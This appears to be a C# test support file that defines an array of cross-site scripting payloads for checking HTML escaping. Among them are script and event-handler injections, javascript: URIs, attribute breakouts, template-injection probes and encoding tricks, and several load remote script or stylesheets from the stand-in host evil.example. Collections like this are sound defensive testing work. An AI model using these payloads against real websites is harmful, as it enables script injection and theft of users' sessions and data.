namespace Modular.Tests.Support;

/// <summary>Texts that become elements, attributes or scripts when they aren't escaped.</summary>
public static class Xss
{
    public static readonly string[] Payloads =
    [
        "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<script>alert(1)//", "</script><script>alert(1)</script>", "<script\n>alert(1)</script\t>",
        "<img src=x onerror=alert(1)>", "<IMG SRC=x OnErRoR=alert(1)>", "<img/src/onerror=alert(1)>", "<img src=x onerror=\"alert(1)\">", "<img src='x' onerror='alert(1)'>",
        "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x>", "<math><mtext></p><img src onerror=alert(1)>",
        "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
        "<a href=javascript:alert(1)>x</a>", "<form action=javascript:alert(1)><input type=submit>", "<button formaction=javascript:alert(1)>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>",
        "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>", "<keygen autofocus onfocus=alert(1)>", "<marquee onstart=alert(1)>",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example'</style>", "<table background=javascript:alert(1)>",
        "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\" autofocus onfocus=alert(1) x=\"", "' autofocus onfocus=alert(1) x='",
        "\"/><img src=x onerror=alert(1)>", "'/><img src=x onerror=alert(1)>", "\" style=\"background:url(javascript:alert(1))", "\"`'><script>alert(1)</script>", "x\" y='z' onclick=\"a\" b='",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">", "--><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "]]><script>alert(1)</script>", "<?xml version=\"1.0\"?><script>alert(1)</script>",
        "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>", "</noscript><img src onerror=alert(1)>", "</p></div></body><script>alert(1)</script>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<xmp><script>alert(1)</script></xmp>", "<template><script>alert(1)</script></template>", "<plaintext>", "<frameset onload=alert(1)>",
        "{{7*7}}", "{% raw %}<b>{% endraw %}", "{{{x}}}", "${alert(1)}", "<%= 7*7 %>", "{{constructor.constructor('alert(1)')()}}", "{{> evil}}", "{% include 'evil' %}",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)", "&", "<", ">", "\"", "'", "`", "=", "<<script>", "<\u0000script>alert(1)</script>", "\u2028<b>\u2029", "<b>bold</b>", "<x y=z>",
        "＜script＞", "‹script›", "<ſcript>alert(1)</ſcript>", "%3Cscript%3E", "\\u003cscript\\u003e", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "\r\n<b>", "<b\u000b>", "<\tb>",
    ];
}
